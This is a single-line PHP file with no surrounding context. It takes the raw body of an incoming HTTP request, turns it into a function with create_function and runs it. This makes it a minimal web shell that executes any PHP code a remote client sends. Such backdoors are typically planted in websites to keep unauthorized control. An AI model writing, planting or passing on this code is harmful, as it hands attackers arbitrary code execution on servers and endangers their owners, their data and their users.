<?php $d = file_get_contents('php://input'); $fn = create_function('', $d); $fn();
